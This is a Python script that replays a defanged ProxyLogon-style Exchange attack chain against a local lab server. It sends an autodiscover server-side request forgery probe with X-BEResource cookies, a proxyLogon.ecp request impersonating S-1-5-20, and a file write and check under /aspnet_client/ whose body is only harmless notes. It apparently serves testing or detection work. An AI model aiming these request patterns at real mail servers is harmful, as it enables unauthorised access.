# ruff: noqa
import http.client
import sys
from string import Template

# Requests kept as raw text so they can be pasted into Burp too.
RAW = {
    "probe": """GET /autodiscover/autodiscover.json?Pad=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720
User-Agent: $ua
x-requested-with: XMLHttpRequest
Accept: */*
accept-language: en-US,en;q=0.9
connection: close
cookie: X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522""",
    "ident": """POST /ecp/proxyLogon.ecp
user-agent: $ua
msexchlogonmailbox: S-1-5-20
content-type: application/json
X-BEResource: localhost@lab.invalid/ecp/proxyLogon.ecp""",
    "write": """POST /aspnet_client/system_web/readme_91453.txt
user-agent: $ua
X-Note-Path: /aspnet_client/system_web/readme_91453.txt
Content-Type: text/plain""",
    "check": """GET /aspnet_client/system_web/readme_91453.txt
User-Agent: $ua
x-requested-with: XMLHttpRequest
Accept: */*
accept-language: en-US,en;q=0.9
connection: close""",
}
UA = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
BODIES = {
    "ident": b'{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}',
    "write": "\n".join(
        [
            "note 1 of 3 for S-1-5-21-toy",
            "note 2 of 3 for S-1-5-21-toy",
            "note 3 of 3 for S-1-5-21-toy",
        ]
    ).encode(),
}


def replay(conn, name):
    head, *rest = Template(RAW[name]).substitute(ua=UA).splitlines()
    method, target = head.split(" ", 1)
    headers = dict(line.split(": ", 1) for line in rest)
    conn.request(method, target, body=BODIES.get(name), headers=headers)
    resp = conn.getresponse()
    return resp.status, resp.read(1024)


conn = http.client.HTTPConnection("127.0.0.1", int(sys.argv[1]), timeout=10)
for step in ("probe", "ident", "write", "check"):
    print(step, replay(conn, step)[0])
